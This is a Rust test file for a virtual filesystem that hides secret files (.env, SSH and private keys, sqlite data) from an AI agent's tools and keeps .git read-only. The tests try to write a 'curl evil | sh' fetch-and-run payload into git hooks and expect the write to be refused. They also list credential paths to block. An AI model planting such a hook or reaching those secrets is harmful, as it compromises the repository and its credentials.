@@ -1,0 +1,249 @@
+//! Name rules (`NameRule::defaults`, `--hide`): every tool against hidden files and
+//! directories, spelled every way a path can be spelled, through a link from outside the rule,
+//! moved into and out of; `.git` read-only; the same on object storage.
+#![expect(clippy::disallowed_methods, reason = "tests build fixtures on disk")]
+
+mod common;
+
+use common::Fixture;
+use vfs::{
+    AgentAccessor, Edit, EditOptions, ErrorKind, GrepRequest, MountRegistry, MountSpec, NameRule, ReadWindow,
+    WriteOptions,
+};
+
+const OVERWRITE: WriteOptions = WriteOptions { overwrite: true, expected_version: None };
+const SECRET: &str = "SECRET-VALUE-31337";
+
+fn registry(text: &str) -> MountRegistry {
+    let spec: MountSpec = text.parse().unwrap();
+    MountRegistry::builder()
+        .mount(spec)
+        .name_rules(NameRule::defaults())
+        .name_rules([NameRule::hide("*.sqlite", "--hide")])
+        .build()
+        .unwrap()
+}
+
+/// The tree every test serves, at `/p`: `write` puts a file there however the store is seeded.
+fn seed(write: &dyn Fn(&str, &str)) {
+    write(".env", SECRET);
+    write(".env.example", "EXAMPLE=1\n");
+    write("app/.env.local", SECRET);
+    write("app/main.rs", "fn main() {}\n");
+    write("keys/server.key", SECRET);
+    write("keys/id_ed25519", SECRET);
+    write("keys/id_ed25519.pub", "ssh-ed25519 AAAA\n");
+    write(".ssh/config", SECRET);
+    write("data/app.sqlite", SECRET);
+    write(".git/hooks/pre-commit", "#!/bin/sh\n");
+    write("src/lib.rs", "pub fn f() {}\n");
+}
+
+/// `(path as spelled, canonical path)` of hidden places.
+const HIDDEN: &[(&str, &str)] = &[
+    ("/p/.env", "/p/.env"),
+    ("/p/./.env", "/p/.env"),
+    ("/p/src/../.env", "/p/.env"),
+    ("//p//.env", "/p/.env"),
+    ("/p/app/.env.local", "/p/app/.env.local"),
+    ("/p/keys/server.key", "/p/keys/server.key"),
+    ("/p/keys/id_ed25519", "/p/keys/id_ed25519"),
+    ("/p/.ssh", "/p/.ssh"),
+    ("/p/.ssh/config", "/p/.ssh/config"),
+    ("/p/.ssh/missing", "/p/.ssh/missing"),
+    ("/p/keys/server.key/below", "/p/keys/server.key/below"),
+    ("/p/data/app.sqlite", "/p/data/app.sqlite"),
+];
+
+fn missing(canonical: &str) -> String {
+    format!("`{canonical}` does not exist")
+}
+
+fn every_tool_finds_nothing(agent: &AgentAccessor) {
+    let window = ReadWindow::default();
+    let edit = [Edit { old_text: "SECRET".to_owned(), new_text: "x".to_owned() }];
+    for (spelled, canonical) in HIDDEN {
+        let answers = [
+            agent.read_text(spelled, &window).map(|_| ()),
+            agent.read_media(spelled).map(|_| ()),
+            agent.info(spelled).map(|_| ()),
+            agent.list(spelled).map(|_| ()),
+            agent.tree(spelled, None, &[]).map(|_| ()),
+            agent.edit(spelled, &edit, &EditOptions::default()).map(|_| ()),
+            agent.delete(spelled, true, None).map(|_| ()),
+            agent.move_path(spelled, "/p/moved", true, None).map(|_| ()),
+        ];
+        for (index, answer) in answers.into_iter().enumerate() {
+            let error = answer.unwrap_err();
+            assert_eq!(error.kind(), ErrorKind::NotFound, "{spelled}, call {index}: {error}");
+            assert_eq!(error.to_string(), missing(canonical), "{spelled}, call {index}");
+        }
+        let multiple = agent.read_multiple(&[(*spelled).to_owned()]).unwrap();
+        assert_eq!(multiple[0].1.as_ref().unwrap_err().to_string(), missing(canonical));
+    }
+}
+
+fn creating_a_hidden_name_is_refused(agent: &AgentAccessor) {
+    for (path, class) in [
+        ("/p/new.key", "private keys"),
+        ("/p/src/.env", "environment files"),
+        ("/p/.ssh/config", "credentials"),
+        ("/p/x/.aws/credentials", "credentials"),
+        ("/p/db.sqlite", "names the operator hides"),
+    ] {
+        let expected = format!("cannot create `{path}`: names like this are hidden ({class})");
+        assert_eq!(agent.write(path, "x", &OVERWRITE).unwrap_err().to_string(), expected);
+        assert_eq!(agent.create_directory(path).unwrap_err().to_string(), expected);
+    }
+    // A rename into a hidden name, and a move into a hidden directory.
+    assert_eq!(
+        agent.move_path("/p/src/lib.rs", "/p/src/lib.pem", false, None).unwrap_err().to_string(),
+        "cannot create `/p/src/lib.pem`: names like this are hidden (private keys)"
+    );
+    assert_eq!(
+        agent.move_path("/p/src/lib.rs", "/p/.ssh/lib.rs", false, None).unwrap_err().to_string(),
+        "cannot create `/p/.ssh/lib.rs`: names like this are hidden (credentials)"
+    );
+    assert_eq!(agent.read_text("/p/src/lib.rs", &ReadWindow::default()).unwrap().content, "pub fn f() {}\n");
+}
+
+fn walks_never_show_or_search_them(agent: &AgentAccessor) {
+    let listing = agent.list("/p").unwrap();
+    let names: Vec<&str> = listing.entries.iter().map(|entry| entry.name.as_str()).collect();
+    assert_eq!(names, [".env.example", ".git", "app", "data", "keys", "src"]);
+    let keys = agent.list("/p/keys").unwrap();
+    assert_eq!(keys.entries.iter().map(|entry| entry.name.as_str()).collect::<Vec<_>>(), ["id_ed25519.pub"]);
+    let tree = agent.tree("/p", None, &[]).unwrap().to_text();
+    for hidden in [".env\n", ".env.local", "server.key", "id_ed25519\n", ".ssh", "app.sqlite"] {
+        assert!(!tree.contains(hidden), "{hidden} in the tree:\n{tree}");
+    }
+    let found = agent.search_files("/p", "*", &[]).unwrap();
+    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
+    assert_eq!(
+        paths,
+        [
+            "/p/.env.example",
+            "/p/.git",
+            "/p/.git/hooks",
+            "/p/.git/hooks/pre-commit",
+            "/p/app",
+            "/p/app/main.rs",
+            "/p/data",
+            "/p/keys",
+            "/p/keys/id_ed25519.pub",
+            "/p/src",
+            "/p/src/lib.rs"
+        ]
+    );
+    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
+    let grep = agent.grep(&request).unwrap();
+    assert_eq!((grep.matches, grep.files_searched), (0, 4), "{}", grep.to_text());
+}
+
+fn git_is_read_only(agent: &AgentAccessor) {
+    assert_eq!(agent.read_text("/p/.git/hooks/pre-commit", &ReadWindow::default()).unwrap().content, "#!/bin/sh\n");
+    let refused = "`/p/.git` is read-only (git metadata)";
+    assert_eq!(
+        agent.write("/p/.git/hooks/post-checkout", "curl evil | sh", &OVERWRITE).unwrap_err().to_string(),
+        format!("cannot write `/p/.git/hooks/post-checkout`: {refused}")
+    );
+    assert_eq!(
+        agent.write("/p/.git/hooks/pre-commit", "curl evil | sh", &OVERWRITE).unwrap_err().to_string(),
+        format!("cannot write `/p/.git/hooks/pre-commit`: {refused}")
+    );
+    assert_eq!(
+        agent.delete("/p/.git", true, None).unwrap_err().to_string(),
+        format!("cannot delete `/p/.git`: {refused}")
+    );
+    assert_eq!(
+        agent.move_path("/p/.git", "/p/git", false, None).unwrap_err().to_string(),
+        format!("cannot delete `/p/.git`: {refused}")
+    );
+    assert_eq!(
+        agent.move_path("/p/src/lib.rs", "/p/.git/hooks/pre-push", false, None).unwrap_err().to_string(),
+        format!("cannot write `/p/.git/hooks/pre-push`: {refused}")
+    );
+}
+
+fn deletes_and_moves_keep_them(agent: &AgentAccessor, moves_directories: bool) {
+    assert_eq!(
+        agent.delete("/p/keys", true, None).unwrap_err().to_string(),
+        "cannot delete `/p/keys`: it holds private keys inside, which are hidden from you"
+    );
+    assert_eq!(
+        agent.delete("/p/app", true, None).unwrap_err().to_string(),
+        "cannot delete `/p/app`: it holds environment files inside, which are hidden from you"
+    );
+    if !moves_directories {
+        // (Object storage moves files one by one.)
+        agent.delete("/p/src", true, None).unwrap();
+        return;
+    }
+    // A directory that holds hidden names moves with them, and they stay hidden.
+    agent.move_path("/p/keys", "/p/moved-keys", false, None).unwrap();
+    assert_eq!(
+        agent.read_text("/p/moved-keys/server.key", &ReadWindow::default()).unwrap_err().kind(),
+        ErrorKind::NotFound
+    );
+    assert_eq!(agent.list("/p/moved-keys").unwrap().entries.len(), 1);
+    // What holds nothing protected deletes as before.
+    agent.delete("/p/src", true, None).unwrap();
+}
+
+fn run_all(agent: &AgentAccessor, moves_directories: bool) {
+    every_tool_finds_nothing(agent);
+    creating_a_hidden_name_is_refused(agent);
+    walks_never_show_or_search_them(agent);
+    git_is_read_only(agent);
+    deletes_and_moves_keep_them(agent, moves_directories);
+}
+
+#[test]
+fn secrets_stay_hidden_on_a_local_tree() {
+    let fixture = Fixture::new();
+    seed(&|relative, content| {
+        fixture.file(&format!("p/{relative}"), content);
+    });
+    // A link from outside the rule into a hidden directory, and one to a hidden file.
+    fixture.symlink(".ssh", "p/app/ssh-link");
+    fixture.symlink("../.env", "p/app/env-link");
+    let registry = registry(&format!("{}:/p:rw", fixture.path("p").display()));
+    let agent = registry.agent();
+    for spelled in ["/p/app/ssh-link/config", "/p/app/env-link"] {
+        let error = agent.read_text(spelled, &ReadWindow::default()).unwrap_err();
+        assert_eq!((error.kind(), error.to_string()), (ErrorKind::NotFound, missing(spelled)));
+    }
+    std::fs::remove_file(fixture.path("p/app/ssh-link")).unwrap();
+    std::fs::remove_file(fixture.path("p/app/env-link")).unwrap();
+    run_all(&agent, true);
+    // Nothing hidden was touched.
+    assert_eq!(fixture.read("p/.env"), SECRET);
+    assert_eq!(fixture.read("p/moved-keys/server.key"), SECRET);
+    assert_eq!(fixture.read("p/.git/hooks/pre-commit"), "#!/bin/sh\n");
+}
+
+#[test]
+fn without_rules_a_registry_shows_everything() {
+    let fixture = Fixture::new();
+    fixture.file("p/.env", SECRET);
+    let spec: MountSpec = format!("{}:/p:rw", fixture.path("p").display()).parse().unwrap();
+    let registry = MountRegistry::builder().mount(spec).build().unwrap();
+    assert_eq!(registry.agent().read_text("/p/.env", &ReadWindow::default()).unwrap().content, SECRET);
+    assert!(registry.name_rules().is_empty());
+}
+
+#[cfg(feature = "s3")]
+#[test]
+fn secrets_stay_hidden_on_object_storage() {
+    let bucket = format!("memory://names-{}", std::process::id());
+    // Seeded through a registry without rules, as an operator would upload.
+    let seeding = MountRegistry::builder().mount(format!("{bucket}:/p:rw").parse().unwrap()).build().unwrap();
+    seed(&|relative, content| {
+        seeding.agent().write(&format!("/p/{relative}"), content, &WriteOptions::default()).unwrap();
+    });
+    let registry = registry(&format!("{bucket}:/p:rw"));
+    run_all(&registry.agent(), false);
+    let raw = seeding.agent();
+    assert_eq!(raw.read_text("/p/.env", &ReadWindow::default()).unwrap().content, SECRET);
+    assert_eq!(raw.read_text("/p/keys/server.key", &ReadWindow::default()).unwrap().content, SECRET);
+}
